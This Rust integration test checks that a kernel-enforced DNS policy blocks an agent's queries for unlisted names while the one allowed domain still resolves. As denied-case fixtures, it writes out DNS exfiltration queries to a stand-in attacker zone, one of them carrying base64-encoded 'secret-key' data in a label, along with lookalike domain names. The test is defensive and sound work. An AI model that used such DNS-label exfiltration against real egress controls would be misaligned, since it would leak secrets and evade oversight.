//! Query names checked in the kernel: queries for unlisted names never leave the agent.

use super::*;

// ---------------------------------------------------------------------------
// 1. Query names are checked in the kernel.
// ---------------------------------------------------------------------------

#[test]
fn dns_queries_for_unlisted_names_never_leave_the_agent() {
    if skip_unless_root() {
        return;
    }
    let world = WorldConfig::new()
        .dns("10.77.0.1:53")
        .dns("[fd77::1]:53")
        .record("api.example.com", "203.0.113.10")
        .record("api.example.com", "2001:db8:1::10");
    let rig = Rig::start(&world);
    // Queries an exfiltrating agent could send through the allowed
    // resolver: data in a label of an attacker's zone, and names close to
    // the allowed one. Each is distinct, so the world's log shows whether
    // that very query arrived.
    let udp_denied = [
        ("10.77.0.1", "c2VjcmV0LWtleQ.x.attacker.example"),
        ("[fd77::1]:53", "v6.x.attacker.example"),
        ("10.77.0.1", "example.com"),
        ("10.77.0.1", "www.api.example.com"),
        ("10.77.0.1", "api.example.com.attacker.example"),
        ("10.77.0.1", "api-example.com"),
    ];
    let tcp_denied = [
        ("10.77.0.1", "tcp.x.attacker.example"),
        ("[fd77::1]:53", "tcp6.x.attacker.example"),
    ];
    // Without the policy the world answers them all (NXDOMAIN: the query
    // arrived). Outside the cgroup, as no policy applies there.
    rig.assert_reachable_without_policy(&["dns", "10.77.0.1", "baseline.x.attacker.example"]);
    rig.assert_reachable_without_policy(&[
        "dns",
        "10.77.0.1",
        "baseline-tcp.x.attacker.example",
        "--tcp",
    ]);

    rig.apply(
        &rig.policy().fqdn("api.example.com", &["443/tcp"]),
        "policy.yaml",
    );
    let before = rig.metrics();

    for (server, name) in udp_denied {
        assert_query_denied(&rig, server, name, false);
    }
    // The allowed name is answered, in any case, over both families.
    rig.lookup("10.77.0.1", "api.example.com", "A", &["203.0.113.10"]);
    rig.lookup("10.77.0.1", "API.Example.COM", "A", &["203.0.113.10"]);
    rig.lookup(
        "[fd77::1]:53",
        "api.example.com",
        "AAAA",
        &["2001:db8:1::10"],
    );

    // UDP queries are one packet each, so the counters are exact.
    let after = rig.metrics();
    let delta = |name: &str, labels: &[(&str, &str)]| common::delta(&before, &after, name, labels);
    let denied = udp_denied.len() as u64;
    assert_eq!(delta(DNS_QUERIES_TOTAL, &[("verdict", "denied")]), denied);
    assert_eq!(delta(DNS_QUERIES_TOTAL, &[("verdict", "allowed")]), 3);
    assert_eq!(delta(DROPS_TOTAL, &[("reason", "dns_denied")]), denied);
    assert_eq!(delta(DROPS_TOTAL, &[]), denied, "no other drops");

    // Over TCP the same: the query segment never leaves.
    for (server, name) in tcp_denied {
        assert_query_denied(&rig, server, name, true);
    }
    for server in ["10.77.0.1", "[fd77::1]:53"] {
        let answer = rig.assert_allowed(&["dns", server, "api.example.com", "--tcp"]);
        assert_eq!(answer.answers, ["203.0.113.10"], "{answer:?}");
    }

    // The world saw the allowed queries (the last one is the sync point:
    // it was sent after every denied one) and none of the denied ones.
    let last = rig
        .world
        .wait_for_dns_query("api.example.com", WORLD_LOG_TIMEOUT)
        .expect("the world logged the allowed query");
    assert_eq!(last.rcode, "NOERROR");
    let seen: BTreeSet<String> = rig
        .world
        .dns_queries()
        .into_iter()
        .map(|q| q.name.trim_end_matches('.').to_owned())
        .collect();
    for (_, name) in udp_denied.iter().chain(&tcp_denied) {
        assert!(
            !seen.contains(&name.to_ascii_lowercase()),
            "the world received the denied query {name}: {seen:?}"
        );
    }
    assert!(seen.contains("baseline-tcp.x.attacker.example"), "{seen:?}");
}
